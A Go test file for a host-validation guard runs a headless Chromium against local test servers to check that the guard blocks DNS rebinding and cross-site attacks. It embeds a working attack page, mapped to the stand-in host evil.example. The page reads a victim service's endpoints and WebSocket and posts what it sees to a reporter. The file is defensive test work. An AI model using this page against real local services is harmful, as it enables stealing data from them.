// SPDX-License-Identifier: Apache-2.0

package hostvalidate_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/merlon-go/merlon/hostvalidate"
)

// needs ends a test that lacks what it needs. CI has all of it.
func needs(t *testing.T, what string) {
	t.Helper()
	if os.Getenv("CI") != "" {
		t.Fatalf("no %s", what)
	}
	t.Skipf("no %s", what)
}

// attackPage reads, acts and opens a WebSocket at TARGET, and tells REPORT what the browser let it see. An opaque answer
// was sent, but the page may not read it.
const attackPage = `<!doctype html><script>
const target = %q, report = %q, seen = {}
const ask = async (name, init) => {
	try {
		const answer = await fetch("http://" + target + "/" + name, init)
		seen[name] = answer.type === "opaque" ? "sent" : answer.status + " " + (await answer.text()).slice(0, 10)
	} catch (e) { seen[name] = "failed" }
}
const socket = () => new Promise(done => {
	const ws = new WebSocket("ws://" + target + "/ws")
	ws.onmessage = e => { seen.ws = e.data; ws.close(); done() }
	ws.onerror = () => { seen.ws = "failed"; done() }
});
(async () => {
	const mode = target === location.host ? "cors" : "no-cors"
	await ask("get", {mode})
	await ask("post", {mode, method: "POST", body: "{}"})
	await socket()
	await fetch(report, {method: "POST", mode: "no-cors", body: JSON.stringify(seen)})
})()
</script>`

// TestChromium lets a real browser attack a real server, once without and once with the guard. In real rebinding the
// page's name changes its address from the attacker's server to the victim; here the server behind the address changes
// from one to the other once the page is loaded, which the browser can't tell apart. (Chromium may ask its user before a
// page from the internet reaches loopback; a page that was loaded from loopback or the same network it doesn't ask for.)
func TestChromium(t *testing.T) {
	if testing.Short() {
		t.Skip("starts browsers")
	}
	browser, err := exec.LookPath("chromium")
	if err != nil {
		needs(t, "chromium; apt-get install chromium")
	}
	type seen struct{ Get, Post, WS string }
	secret := seen{"200 the secret", "200 the secret", "the secret"}
	for _, c := range []struct {
		name, page, target string // by %s, the port of the victim
		own                bool   // the page is the victim's, not an attacker's
		bare, guarded      seen
		reason             []hostvalidate.Reason // of get, post, ws
	}{
		{
			name: "rebinding", page: "evil.example:%s", target: "evil.example:%s",
			bare:    secret,
			guarded: seen{"421 {\"error\":\"", "421 {\"error\":\"", "failed"},
			reason:  []hostvalidate.Reason{hostvalidate.HostUndeclared, hostvalidate.HostUndeclared, hostvalidate.HostUndeclared},
		},
		{
			name: "cross-site", page: "evil.example:%s", target: "localhost:%s",
			bare:    seen{"sent", "sent", "the secret"},
			guarded: seen{"sent", "sent", "failed"},
			reason:  []hostvalidate.Reason{hostvalidate.CrossSite, hostvalidate.OriginUndeclared, hostvalidate.OriginUndeclared},
		},
		{name: "localhost", page: "localhost:%s", target: "localhost:%s", own: true, guarded: secret},
		{name: "localhost with the root dot", page: "localhost.:%s", target: "localhost.:%s", own: true, guarded: secret},
		{
			name: "0.0.0.0", page: "0.0.0.0:%s", target: "0.0.0.0:%s",
			bare:    secret,
			guarded: seen{"421 {\"error\":\"", "421 {\"error\":\"", "failed"},
			reason:  []hostvalidate.Reason{hostvalidate.HostUnspecified, hostvalidate.HostUnspecified, hostvalidate.HostUnspecified},
		},
	} {
		for _, guard := range []bool{false, true} {
			if c.own && !guard {
				continue // needs no proof
			}
			t.Run(fmt.Sprintf("%s/guard=%t", c.name, guard), func(t *testing.T) {
				reports := make(chan seen, 1)
				reporter := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
					var s seen
					body, _ := io.ReadAll(r.Body)
					if json.Unmarshal(body, &s) == nil {
						reports <- s
					}
				}))
				defer reporter.Close()

				victim := new(service)
				var refused sync.Map // by path: the browser asks again after 421, on a new connection (RFC 9110 section 15.5.20)
				p, err := hostvalidate.New(config{OnRefuse: func(r *http.Request, e *hostvalidate.Error) { refused.Store(r.URL.Path, e.Reason) }})
				require.NoError(t, err)
				var page []byte
				inner := http.Handler(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					switch r.URL.Path {
					case "/favicon.ico":
						http.NotFound(w, r)
					case "/":
						w.Header().Set("Content-Type", "text/html")
						_, _ = w.Write(page)
					default:
						victim.ServeHTTP(w, r)
					}
				}))
				attacker := inner
				if guard {
					inner = p.Handler(inner)
				}
				if c.own {
					attacker = inner
				}
				var rebound atomic.Bool
				server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					if r.URL.Path == "/favicon.ico" {
						http.NotFound(w, r)
					} else if rebound.CompareAndSwap(false, true) {
						attacker.ServeHTTP(w, r)
					} else {
						inner.ServeHTTP(w, r)
					}
				}))
				defer server.Close()
				_, port, _ := net.SplitHostPort(server.Listener.Addr().String())
				page = fmt.Appendf(nil, attackPage, fmt.Sprintf(c.target, port), reporter.URL)
				server.Start()

				browse(t, browser, fmt.Sprintf("http://"+c.page+"/", port), func() {
					select {
					case got := <-reports:
						if !guard {
							require.Equal(t, c.bare, got)
						} else {
							require.Equal(t, c.guarded, got)
						}
					case <-time.After(40 * time.Second):
						t.Fatal("the page did not report")
					}
				})
				if guard && !c.own {
					require.Empty(t, victim.log(), "what reached the service")
					for i, path := range []string{"/get", "/post", "/ws"} {
						got, _ := refused.Load(path)
						require.Equal(t, c.reason[i], got, path)
					}
					return
				}
				require.Equal(t, []string{"GET", "POST", "WebSocket"}, victim.log())
				refused.Range(func(path, why any) bool { t.Error(path, why); return true })
			})
		}
	}
}

// browse opens a page in a fresh headless Chromium, for which the name evil.example leads to 127.0.0.1 and other names
// nowhere, until wait returns.
func browse(t *testing.T, browser, page string, wait func()) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	profile, err := os.MkdirTemp("", "chromium")
	require.NoError(t, err)
	cmd := exec.CommandContext(ctx, browser,
		"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
		"--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", "--user-data-dir="+profile,
		"--host-resolver-rules=MAP evil.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost, EXCLUDE localhost., EXCLUDE 0.0.0.0",
		"--remote-debugging-port=0", page)
	cmd.Env = append(os.Environ(), "TMPDIR="+profile) // it leaves a folder there when it is killed
	cmd.WaitDelay = 10 * time.Second
	require.NoError(t, cmd.Start())
	defer func() {
		cancel()
		_ = cmd.Wait()  // killed
		for range 100 { // until its children are gone, too, and write no more
			if os.RemoveAll(profile) == nil {
				return
			}
			time.Sleep(50 * time.Millisecond)
		}
		t.Errorf("%s stays", profile)
	}()
	wait()
}
